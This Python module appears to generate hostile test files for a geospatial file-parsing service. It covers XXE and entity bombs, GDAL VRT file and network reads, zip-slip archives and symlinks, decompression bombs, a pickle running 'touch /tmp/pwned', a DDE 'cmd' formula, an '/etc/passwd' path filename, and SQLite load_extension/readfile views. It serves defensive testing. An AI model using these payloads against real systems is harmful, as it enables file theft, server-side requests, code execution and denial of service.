"""Files that mean harm, in groups: what each tries, its name and bytes.

They are made for a canary file that nobody may read, and the address of a listener that nobody may call.
"""

from __future__ import annotations

import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import openpyxl
import pyarrow as pa
from hostile_parts import (
    POINTS,
    TEMPLATE,
    changed,
    changed_gpkg,
    far_cell,
    geoparquet,
    gpx_with_schema,
    grid,
    grid_json,
    lying,
    overlapping,
    parquet,
    rename_to_a_template,
    shapefile,
    with_wrong_bytes,
    workbook,
    written,
    zipped,
)

Made = tuple[str, bytes]


def pretenders(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{canary}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()
    remote = vrt.replace(str(canary).encode(), f"/vsicurl/{address}/x.csv".encode())
    pixels = (
        f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand subClass="VRTDerivedRasterBand">'
        f"<PixelFunctionLanguage>Python</PixelFunctionLanguage><SourceFilename>{canary}</SourceFilename>"
        "</VRTRasterBand></VRTDataset>"
    ).encode()
    pipeline = json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {canary} ! write x"}
    ).encode()
    wfs = f"<OGRWFSDataSource><URL>{address}</URL></OGRWFSDataSource>".encode()
    made = workbook()
    return {
        **{
            f"VRT named {end}": (f"x.{end}", vrt)
            for end in ("vrt", "csv", "gpkg", "kml", "geojson", "shp", "gpx")
        },
        "VRT with a comment before it": ("x.gpx", b"<?xml version='1.0'?><!-- <gpx> -->" + vrt),
        "VRT of the network": ("x.csv", remote),
        "VRT with Python": ("x.vrt", pixels),
        "GDALG": ("x.gdalg.json", pipeline),
        "GDALG named geojson": ("x.geojson", pipeline),
        "WFS": ("x.kml", wfs),
        "connection text": ("x.csv", f"MVT:{address}".encode()),
        "workbook named csv": ("x.csv", made),
        **{
            f"CSV named {end}": (f"x.{end}", b"id,date\n1,2023-09-24\n")
            for end in ("xlsx", "gpkg", "parquet", "zip")
        },
        "program named csv": ("x.csv", b"\x7fELF" + bytes(range(256)) * 40),
        "pickle named parquet": ("x.parquet", b"\x80\x04\x95cos\nsystem\n(S'touch /tmp/pwned'\ntR."),
    }


def entities(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    def kml(declared: str, used: str) -> bytes:
        return (
            f'<?xml version="1.0"?>\n<!DOCTYPE kml [{declared}]>\n<kml><Placemark><name>{used}</name>'
            "<Point><coordinates>20.7,42.9</coordinates></Point></Placemark></kml>"
        ).encode()

    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)
    )
    quadratic = f'<!ENTITY a "{"x" * 50_000}">'
    gpx = kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;").replace(b"kml", b"gpx")
    padding = f"<!--{'x' * 10_000}-->"
    sheet = workbook(
        {
            "xl/sharedStrings.xml": (
                f'<?xml version="1.0"?>{padding}<!DOCTYPE sst [<!ENTITY a SYSTEM "file://{canary}">]>'
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a;</t></si></sst>'
            )
        }
    )
    include = (
        '<kml xmlns:xi="http://www.w3.org/2001/XInclude"><Placemark><name><xi:include parse="text" '
        f'href="file://{canary}"/></name><Point><coordinates>1,2</coordinates></Point></Placemark></kml>'
    ).encode()
    return {
        "external entity": ("x.kml", kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;")),
        "external entity of the network": ("x.kml", kml(f'<!ENTITY a SYSTEM "{address}/a">', "&a;")),
        "parameter entity": ("x.kml", kml(f'<!ENTITY % a SYSTEM "{address}/a.dtd"> %a;', "x")),
        "external document type": ("x.kml", f'<!DOCTYPE kml SYSTEM "{address}/a.dtd"><kml/>'.encode()),
        "external entity in UTF-16": (
            "x.kml",
            kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;").decode().encode("utf-16"),
        ),
        "entity bomb": ("x.kml", kml(laughs, "&m;")),
        "long entity, often": ("x.kml", kml(quadratic, "&a;" * 50_000)),
        "entity bomb in GPX": ("x.gpx", kml(laughs, "&m;").replace(b"kml", b"gpx")),
        "external entity in GPX": ("x.gpx", gpx),
        "external entity in a workbook": ("x.xlsx", sheet),
        "XInclude": ("x.kml", include),
        "schema of the network": ("x.gpx", gpx_with_schema(address)),
    }


def archives(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    parts = shapefile(scratch)
    outside = {f"../../../..{canary.parent}/{name}": content for name, content in parts.items()}
    linked = dict(parts)
    symlink = zipfile.ZipInfo("layer.dbf")
    symlink.create_system, symlink.external_attr = 3, 0o120777 << 16
    linked.pop("layer.dbf")
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        f' Target="file://{canary}" TargetMode="External"/></Relationships>'
    )
    return {
        "paths that lead out": ("x.zip", zipped(outside)),
        "absolute paths": ("x.zip", zipped({str(canary): b"overwritten", "layer.shp": parts["layer.shp"]})),
        "a path with backslashes": ("x.zip", zipped({"..\\..\\layer.csv": b"id\n1\n"})),
        "a link in a ZIP": ("x.zip", zipped(linked, {symlink: str(canary).encode()})),
        "a link as the only member": ("x.zip", zipped({}, {symlink: str(canary).encode()})),
        "KML outside its KMZ": ("x.kmz", zipped({"../doc.kml": b"<kml/>"})),
        "a workbook whose sheet is elsewhere": ("x.xlsx", workbook({"xl/_rels/workbook.xml.rels": rels})),
        "an archive in an archive": ("x.zip", zipped({"inner.zip": zipped({"a.csv": b"id\n1\n"})})),
        "an empty archive": ("x.zip", zipped({})),
        "half an archive": ("x.zip", zipped(parts)[:-40]),
        "a shapefile without its table": ("x.zip", zipped({"layer.shp": parts["layer.shp"]})),
        "a VRT as shapefile": ("x.zip", zipped({**parts, "layer.shp": b"<OGRVRTDataSource/>"})),
        "a projection that names a file": (
            "x.zip",
            zipped({**parts, "layer.prj": grid(canary).encode()}),
        ),
        "a projection of the network": ("x.zip", zipped({**parts, "layer.prj": f"{address}/x.prj".encode()})),
        "an encoding that is a path": ("x.zip", zipped({**parts, "layer.cpg": str(canary).encode()})),
    }


def bombs(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    zeros = bytes(60_000_000)
    many = zipped({f"{n}.csv": b"" for n in range(20_000)})
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(200_000, np.int32)), pa.array(["x" * 900_000]))
    rows = pa.array(np.zeros(30_000_000, np.int8))
    return {
        "ZIP bomb": ("x.zip", zipped({"a.csv": zeros})),
        "ZIP bomb that lies": ("x.zip", lying(zipped({"a.csv": zeros}), len(zeros), 100)),
        "overlapping members": ("x.zip", overlapping()),
        "too many members": ("x.zip", many),
        "XLSX bomb": ("x.xlsx", workbook({"xl/sharedStrings.xml": b"<sst>" + zeros})),
        "XLSX bomb in a picture": ("x.xlsx", workbook({"xl/media/a.png": zeros})),
        "KMZ bomb": ("x.kmz", zipped({"doc.kml": b"<kml>" + zeros})),
        "Parquet bomb of one text": ("x.parquet", parquet(pa.table({"a": text}))),
        "Parquet bomb of rows": ("x.parquet", parquet(pa.table({"a": rows}))),
        "gzip bomb": ("x.csv.gz", zlib.compress(zeros, 9, 31)),
        "a cell without end": ("x.csv", b"id,date\n1," + b"x" * 30_000_000),
        "a quotation without end": ("x.csv", b'id,date\n1,"' + b"x\n" * 10_000_000),
        "a line without end": ("x.csv", b"x" * 50_000_000),
        "a million columns": ("x.csv", b",".join(b"%d" % n for n in range(1_000_000)) + b"\n1\n"),
        "a million keys": ("x.json", json.dumps([{str(n): n for n in range(1_000_000)}]).encode()),
        "every line opens a quotation": ("x.csv", b"id,date\n" + b'1,"x\n' * 500_000),
        "only delimiters": ("x.csv", b"," * 20_000_000),
        "a workbook of one far cell": ("x.xlsx", far_cell()),
        "an endless number": ("x.json", b'[{"id": ' + b"9" * 2_000_000 + b"}]"),
    }


def deep(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    shape = b'{"type":"GeometryCollection","geometries":[' * 400 + b"]}" * 400
    feature = b'{"type":"Feature","properties":{},"geometry":' + shape + b"}"
    return {
        "deep lists": ("x.json", b"[" * 5_000_000),
        "deep lists, closed": ("x.json", b"[" * 100_000 + b"]" * 100_000),
        "deep objects": ("x.geojson", b'{"type":' * 500_000),
        "a deep cell": ("x.json", b'[{"a":' + b"[" * 700 + b"]" * 700 + b"}]"),
        "deep shapes": ("x.geojson", b'{"type":"FeatureCollection","features":[' + feature + b"]}"),
        "deep folders": ("x.kml", b"<kml>" + b"<Folder>" * 200_000),
        "deep GPX": ("x.gpx", b"<gpx>" + b"<a>" * 200_000),
        "deep multigeometry": (
            "x.kml",
            b"<kml><Placemark>"
            + b"<MultiGeometry>" * 5000
            + b"</MultiGeometry>" * 5000
            + b"</Placemark></kml>",
        ),
    }


def broken(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    fgb, gpkg, shp = written(scratch, "FlatGeobuf"), written(scratch, "GPKG"), zipped(shapefile(scratch))
    parquet = geoparquet()
    huge_polygon = struct.pack("<BII", 1, 3, 0xFFFFFFF0)
    parts = shapefile(scratch)
    dbf = bytearray(parts["layer.dbf"])
    dbf[4:12] = struct.pack("<IHH", 0x7FFFFFFF, 0xFFFF, 0xFFFF)
    found: dict[str, Made] = {
        "broken WKB": ("x.parquet", geoparquet([b"\x01\x02", huge_polygon, b""])),
        "broken WKB in a GeoPackage": (
            "x.gpkg",
            changed_gpkg(gpkg, scratch, b"GP\0\1\xe6\x10\0\0" + huge_polygon),
        ),
        "FlatGeobuf with a huge header": ("x.fgb", fgb[:8] + b"\xff\xff\xff\x7f" + fgb[12:]),
        "FlatGeobuf, cut": ("x.fgb", fgb[: len(fgb) // 2]),
        "Parquet with a huge footer": ("x.parquet", parquet[:-8] + b"\xff\xff\xff\x7f" + b"PAR1"),
        "Parquet of twelve bytes": ("x.parquet", b"PAR1\0\0\0\0PAR1"),
        "GeoPackage, cut": ("x.gpkg", gpkg[:5000]),
        "a table that claims two thousand million rows": (
            "x.zip",
            zipped({**parts, "layer.dbf": bytes(dbf)}),
        ),
        "a shapefile with endless offsets": (
            "x.zip",
            zipped({**parts, "layer.shx": parts["layer.shx"][:100] + b"\x7f\xff\xff\xf0" * 50}),
        ),
        "NUL bytes": ("x.csv", b"id,date\n1,\0\0\0\n"),
        "only NUL bytes": ("x.csv", bytes(100_000)),
        "NUL in JSON": ("x.json", b'[{"id": "a\\u0000b"}]'),
        "half characters": ("x.json", b'[{"id": "\\ud800", "\\udfff": 1}]'),
        "random bytes": ("x.csv", random.Random(7).randbytes(200_000)),  # noqa: S311 - no secret
        "numbers beyond all bounds": (
            "x.geojson",
            b'{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[1e999,-1e999]}}',
        ),
        "half a UTF-16 file": ("x.csv", "id,date\n1,2023".encode("utf-16")[:-1]),
    }
    for number, (name, content) in enumerate(
        [("x.fgb", fgb), ("x.gpkg", gpkg), ("x.zip", shp), ("x.parquet", parquet), ("x.xlsx", workbook())]
    ):
        found[f"{name} with wrong bytes"] = (name, with_wrong_bytes(content, number))
    return found


def links(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    def geojson(crs: object) -> bytes:
        features = [json.loads(POINTS.to_json())["features"][0]]
        return json.dumps({"type": "FeatureCollection", "crs": crs, "features": features}).encode()

    network = (
        f"<kml><Document><NetworkLink><Link><href>{address}/a.kml</href></Link></NetworkLink>"
        f"<Style id='s'><IconStyle><Icon><href>{address}/a.png</href></Icon></IconStyle></Style>"
        f"<GroundOverlay><Icon><href>file://{canary}</href></Icon></GroundOverlay>"
        "<Placemark><name>2023-09-24</name><styleUrl>#s</styleUrl><description><![CDATA["
        f'<img src="{address}/x.png">]]></description><Point><coordinates>20.7,42.9</coordinates></Point>'
        "</Placemark></Document></kml>"
    ).encode()
    return {
        "crs link": (
            "x.geojson",
            geojson({"type": "link", "properties": {"href": f"{address}/crs", "type": "proj4"}}),
        ),
        "crs that is an address": (
            "x.geojson",
            geojson({"type": "name", "properties": {"name": f"{address}/crs"}}),
        ),
        "crs that names a file": (
            "x.geojson",
            geojson({"type": "name", "properties": {"name": f"+proj=longlat +nadgrids={canary}"}}),
        ),
        "crs of a GeoParquet that names a file": ("x.parquet", geoparquet(crs=grid_json(canary))),
        "crs of a GeoParquet that is an address": ("x.parquet", geoparquet(crs=f"{address}/crs")),
        "KML network link": ("x.kml", network),
        "KMZ network link": ("x.kmz", zipped({"doc.kml": network})),
        "GPX link": (
            "x.gpx",
            f'<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="42.9" lon="20.7">'
            f'<name>a</name><link href="{address}"/></wpt></gpx>'.encode(),
        ),
        "addresses in cells": (
            "x.csv",
            f"id,date,lat,lon,url\n1,2023-09-24,42.9,20.7,{address}/x\n".encode(),
        ),
    }


def texts(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    quoted = '"' + TEMPLATE.replace('"', '""') + '"'
    cells = f"id,date,lat,lon,{quoted}\n{quoted},2023-09-24,42.9,20.7,{quoted}\n".encode()
    book = openpyxl.Workbook()
    book.active.title = "{{7x7}}"
    book.active.append(["id", TEMPLATE])
    book.active.append([TEMPLATE, "=cmd|' /C calc'!A0"])
    stream = io.BytesIO()
    book.save(stream)
    return {
        "template text in cells": ("x.csv", cells),
        "template text in the file's name": ("{{ 7*7 }}.csv", cells),
        "control characters in the file's name": ("x\x1b[31m\n\0.csv", b"\0\1\2" * 50),
        "a path as the file's name": ("../../../../etc/passwd", b"\0\1\2" * 50),
        "template text in a sheet": ("x.xlsx", stream.getvalue()),
        "columns named like ours": ("x.csv", b"row,geometry,index,level_0,extra\n1,POINT(1 2),3,4,5\n"),
        "prototype keys": ("x.json", b'[{"__proto__": {"a": 1}, "constructor": 2, "id": 3}]'),
        "terminal codes in cells": ("x.csv", b"id,date\n1,\x1b]0;owned\x07\n"),
    }


def databases(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    gpkg = written(scratch, "GPKG")
    endless = (
        "CREATE VIEW layer_v AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
        "SELECT x AS fid, x AS id FROM n"
    )
    extension = f"CREATE VIEW layer_v AS SELECT 1 AS fid, load_extension('{canary}') AS id"
    reading = f"CREATE VIEW layer_v AS SELECT 1 AS fid, readfile('{canary}') AS id"
    opening = (
        f"CREATE VIEW layer_v AS SELECT 1 AS fid, gdal_get_pixel_value('{canary}', 1, 'pixel', 0, 0) AS id"
    )
    virtual = f"CREATE VIRTUAL TABLE layer_v USING VirtualOGR('{canary}')"

    def with_layer(statement: str) -> bytes:
        def change(database: sqlite3.Connection) -> None:
            if "VIRTUAL" in statement:
                database.execute("PRAGMA writable_schema = ON")
                database.execute(
                    "INSERT INTO sqlite_master VALUES ('table', 'layer_v', 'layer_v', 0, ?)", (statement,)
                )
            else:
                database.execute(statement)
            database.execute("DELETE FROM gpkg_contents")
            columns = "(table_name, data_type, identifier)"
            values = "('layer_v', 'attributes', 'v')"
            database.execute(f"INSERT INTO gpkg_contents {columns} VALUES {values}")  # noqa: S608

        return changed(gpkg, scratch, change)

    plain = scratch / "plain.sqlite"
    plain.unlink(missing_ok=True)
    database = sqlite3.connect(plain)
    database.execute("CREATE TABLE a (id)")
    database.commit()
    database.close()
    return {
        "a view without end": ("x.gpkg", with_layer(endless)),
        "a view that loads a library": ("x.gpkg", with_layer(extension)),
        "a view that reads a file": ("x.gpkg", with_layer(reading)),
        "a view that opens a file": ("x.gpkg", with_layer(opening)),
        "a table of another file": ("x.gpkg", with_layer(virtual)),
        "a database that is no GeoPackage": ("x.gpkg", plain.read_bytes()),
        "a layer with a template's name": (
            "x.gpkg",
            changed(gpkg, scratch, rename_to_a_template),
        ),
    }


GROUPS = (pretenders, entities, archives, bombs, deep, broken, links, texts, databases)
